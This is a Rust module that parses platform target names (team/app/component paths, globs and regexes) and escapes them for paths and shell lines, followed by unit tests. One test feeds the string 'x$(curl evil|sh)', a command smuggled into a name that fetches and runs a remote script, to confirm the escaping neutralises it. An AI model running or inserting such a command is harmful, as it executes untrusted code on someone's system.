//! Names of things on a platform as targets (decision 20):
//! `[CONTEXT:]team[@REGION]/app/component[/pod[/container]]`, each part an alias, an id or a
//! shown name, `*` and `?` in it, `%2F` for a slash; or `[CONTEXT:]re:REGEX` over
//! `team/app/component`.

use std::fmt::Write;

use percent_encoding::percent_decode_str;
use regex::{Regex, RegexBuilder};

use crate::model::{Fault, FaultKind};
use crate::say;
use crate::text::glob;

/// How a user names components, pods or containers.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Name {
    /// As it was typed.
    pub text: String,
    /// Which context; the current one without.
    pub context: Option<String>,
    /// What is meant there.
    pub path: Path,
    /// Not its lines are wanted, but what the platform does with it.
    pub events: bool,
}

/// What is meant in a context.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum Path {
    /// Parts from the team down.
    Parts(Box<Parts>),
    /// All components whose `team/app/component` matches.
    Regex(String),
}

/// The parts of a path.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Parts {
    /// The team; empty is the context's own.
    pub team: Part,
    /// The region; the context's own, or the team's only one, without.
    pub region: Option<String>,
    /// The app.
    pub app: Part,
    /// The component.
    pub component: Part,
    /// The pod; all of them without.
    pub pod: Option<Part>,
    /// The container; all of them without.
    pub container: Option<Part>,
}

/// One part of a path.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Part {
    text: String,
    glob: bool,
}

impl Part {
    /// A part as it was typed, `%2F` still in it.
    pub fn new(text: &str) -> Self {
        Self {
            text: percent_decode_str(text).decode_utf8_lossy().into_owned(),
            glob: text.contains(['*', '?']),
        }
    }

    /// A part that is this text.
    pub fn exactly(text: &str) -> Self {
        Self {
            text: text.into(),
            glob: false,
        }
    }

    /// Its text.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// Whether it may mean several things.
    pub fn is_glob(&self) -> bool {
        self.glob
    }

    /// Whether a thing with one of these names is meant; case does not count.
    pub fn matches(&self, names: &[&str]) -> bool {
        names.iter().filter(|name| !name.is_empty()).any(|name| {
            let (part, name) = (self.text.to_lowercase(), name.to_lowercase());
            part == name || self.glob && glob::fits(&part, &name)
        })
    }
}

/// A form that a user can copy.
fn form() -> String {
    say!(
        "a name looks like TEAM/APP/COMPONENT, or CONTEXT:TEAM@REGION/APP/COMPONENT/POD",
        "名字的写法是 团队/应用/组件，或 上下文:团队@区域/应用/组件/实例"
    )
}

impl Name {
    /// Whether a text is meant as a name: it has a slash or `re:` and no scheme of ours.
    pub fn is_one(text: &str) -> bool {
        !text.contains("://") && (text.contains('/') || text.contains("re:"))
    }

    /// Reads what a user typed.
    pub fn parse(text: &str) -> Result<Self, Fault> {
        let bad = |why: String| Fault::new(FaultKind::Usage, text, why, form());
        let head = text.split('/').next().unwrap_or("");
        let (context, rest) = match head.split_once(':') {
            Some(("re", _)) | None => (None, text),
            Some(("", _)) => {
                return Err(bad(say!(
                    "the context in front of ':' is missing",
                    "':' 前面缺少上下文"
                )));
            }
            Some((context, _)) => (
                Some(context.to_owned()),
                text.get(context.len() + 1..).unwrap_or(""),
            ),
        };
        let path = match rest.strip_prefix("re:") {
            Some(pattern) => {
                compile(pattern).map_err(|error| bad(say!("{error}", "{error}")))?;
                Path::Regex(pattern.to_owned())
            }
            None => Path::Parts(Box::new(parts(rest).map_err(bad)?)),
        };
        Ok(Self {
            text: text.into(),
            context,
            path,
            events: false,
        })
    }
}

fn parts(text: &str) -> Result<Parts, String> {
    let pieces: Vec<&str> = text.split('/').collect();
    let [team, app, component, rest @ ..] = pieces.as_slice() else {
        return Err(say!(
            "it has too few parts for a component",
            "层级太少，不足以指明一个组件"
        ));
    };
    let empty = || say!("one of its parts is empty", "其中有空的部分");
    let (pod, container) = match rest {
        [] | [""] => (None, None),
        [pod] => (Some(*pod), None),
        [pod, container] => (Some(*pod), Some(*container)),
        _ => return Err(say!("it has too many parts", "层级太多")),
    };
    if app.is_empty() || component.is_empty() || pod == Some("") || container == Some("") {
        return Err(empty());
    }
    let (team, region) = match team.split_once('@') {
        Some((_, "")) => return Err(empty()),
        Some((team, region)) => (team, Some(Part::new(region).text)),
        None => (*team, None),
    };
    Ok(Parts {
        team: Part::new(team),
        region,
        app: Part::new(app),
        component: Part::new(component),
        pod: pod.map(Part::new),
        container: container.map(Part::new),
    })
}

/// A pattern over `team/app/component`; small, and without case where it has no capital.
pub fn compile(pattern: &str) -> Result<Regex, String> {
    RegexBuilder::new(pattern)
        .case_insensitive(!pattern.chars().any(char::is_uppercase))
        .size_limit(1 << 20)
        .build()
        .map_err(|error| {
            let error = error.to_string().replace('\n', " ");
            say!(
                "the regular expression is not valid ({error})",
                "正则表达式无效（{error}）"
            )
        })
}

/// A thing's name as a part of a path.
pub fn escape(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    for c in name.chars() {
        match c {
            '/' => out.push_str("%2F"),
            '%' => out.push_str("%25"),
            '@' => out.push_str("%40"),
            ':' => out.push_str("%3A"),
            '*' => out.push_str("%2A"),
            '?' => out.push_str("%3F"),
            c => out.push(c),
        }
    }
    out
}

/// The same for the line of a user's shell, which reads it before we do: a server's name is no
/// command there.
pub fn bare(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    for c in name.chars() {
        let plain = c.is_ascii_alphanumeric() || matches!(c, '.' | '_') || !c.is_ascii();
        // At the beginning it would be an option.
        if plain || c == '-' && !out.is_empty() {
            out.push(c);
        } else {
            let _ = write!(out, "%{:02X}", u32::from(c));
        }
    }
    out
}

/// Which things are wanted: parts from the team down, and the context.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Scope {
    /// The context, where it is named.
    pub context: Option<String>,
    /// Team, app, component, pod, container; as many as were written.
    pub parts: Vec<Part>,
}

impl Scope {
    /// Reads `[CONTEXT:]TEAM/APP/…`; an empty text means everything.
    pub fn parse(text: &str) -> Self {
        let head = text.split('/').next().unwrap_or("");
        let (context, rest) = match head.split_once(':') {
            Some((context, _)) if !context.is_empty() => (
                Some(context.to_owned()),
                text.get(context.len() + 1..).unwrap_or(""),
            ),
            _ => (None, text),
        };
        let parts = rest.trim_end_matches('/').split('/').map(Part::new);
        Self {
            context,
            parts: parts.collect(),
        }
    }

    /// Whether something of this depth is meant, 0 for a team, that has these names.
    pub fn accepts(&self, depth: usize, names: &[&str]) -> bool {
        self.parts
            .get(depth)
            .is_none_or(|part| part.text().is_empty() || part.matches(names))
    }

    /// Whether something is meant whose names are these, a team's first; or something below it.
    pub fn leads_to(&self, path: &[&[&str]]) -> bool {
        let mut path = path.iter().enumerate();
        path.all(|(depth, names)| self.accepts(depth, names))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> String {
        let name = Name::parse(text).unwrap();
        let path = match name.path {
            Path::Regex(pattern) => format!("re {pattern}"),
            Path::Parts(parts) => {
                let part = |part: Option<Part>| part.map_or("-".into(), |part| part.text);
                format!(
                    "{} {} {} {} {} {}",
                    parts.team.text,
                    parts.region.unwrap_or("-".into()),
                    parts.app.text,
                    parts.component.text,
                    part(parts.pod),
                    part(parts.container)
                )
            }
        };
        format!("{} {path}", name.context.unwrap_or("-".into()))
    }

    #[test]
    fn names_are_read_into_their_parts() {
        for (text, want) in [
            ("shop/front/web", "- shop - front web - -"),
            ("shop/front/web/", "- shop - front web - -"),
            ("prod:shop/front/web", "prod shop - front web - -"),
            (
                "prod:shop@east/front/web/web-1/main",
                "prod shop east front web web-1 main",
            ),
            ("商城/在线商店/订单中心", "- 商城 - 在线商店 订单中心 - -"),
            ("/front/web", "-  - front web - -"),
            ("shop/a%2Fb/web", "- shop - a/b web - -"),
            ("*/front/w*", "- * - front w* - -"),
            ("re:^shop/.*/web$", "- re ^shop/.*/web$"),
            ("prod:re:x", "prod re x"),
        ] {
            assert_eq!(shown(text), want, "{text}");
            assert!(Name::is_one(text), "{text}");
        }
    }

    #[test]
    fn what_is_no_name_is_told_with_a_form_to_copy() {
        for text in [
            "shop",
            "shop/front",
            ":a/b/c",
            "a//c",
            "a/b/",
            "a@/b/c",
            "a/b/c/d/e/f",
            "a/b/c//d",
            "re:(",
            "x:re:[",
        ] {
            let fault = Name::parse(text).unwrap_err();
            assert!(fault.next.contains("TEAM/APP/COMPONENT"), "{fault}");
        }
    }

    #[test]
    fn globs_match_any_of_a_things_names() {
        for (part, names, want) in [
            ("web", &["gr1", "Web"][..], true),
            ("web", &["webs"], false),
            ("w*b", &["web", "x"], true),
            ("w?b", &["web"], true),
            ("w?b", &["wb"], false),
            ("*", &["anything"], true),
            ("*", &[""], false),
            ("订单*", &["订单中心"], true),
            ("*a*b*c", &["xxaxxbxxc"], true),
            ("*a*b*c", &["xxaxxcxxb"], false),
        ] {
            assert_eq!(Part::new(part).matches(names), want, "{part} {names:?}");
        }
    }

    proptest::proptest! {
        #[test]
        fn an_escaped_name_is_itself(name in "[a-z/%@:*?\u{4e2d}]{1,8}") {
            let text = format!("t/a/{}", escape(&name));
            let Path::Parts(parts) = Name::parse(&text).unwrap().path else { panic!("{text}") };
            proptest::prop_assert_eq!(parts.component.text(), name);
        }
    }

    #[test]
    fn a_bare_name_has_nothing_that_a_shell_takes_for_more_than_a_letter() {
        let safe = |c: char| c.is_ascii_alphanumeric() || "%._-".contains(c) || !c.is_ascii();
        let hostile: String = (' '..='~').collect();
        for name in [
            &*hostile,
            "x$(curl evil|sh)",
            "a b",
            "~root",
            "商城 1",
            "-O",
            "a-b.c_d",
        ] {
            let bare = bare(name);
            assert!(bare.chars().all(safe) && !bare.starts_with('-'), "{bare}");
            assert_eq!(Part::new(&bare), Part::exactly(name));
        }
        assert_eq!((&*bare("a-b.c_d"), &*bare("商城")), ("a-b.c_d", "商城"));
    }

    #[test]
    fn a_scope_leads_to_what_is_below_it_alone() {
        let path: [&[&str]; 3] = [
            &["shop", "商城"],
            &["在线商店", "store"],
            &["支付", "payment"],
        ];
        for (text, depth) in [
            ("", 3),
            ("shop", 3),
            ("商城/store", 3),
            ("shop/*/pay*", 3),
            ("shop/*/order*", 2),
            ("shop/lab/payment", 1),
            ("lab", 0),
            ("*/*/payment/pod", 3),
        ] {
            let scope = Scope::parse(text);
            let led = (1..=3).filter(|depth| scope.leads_to(path.get(..*depth).unwrap_or(&[])));
            assert_eq!(led.count(), depth, "{text}");
        }
    }
}
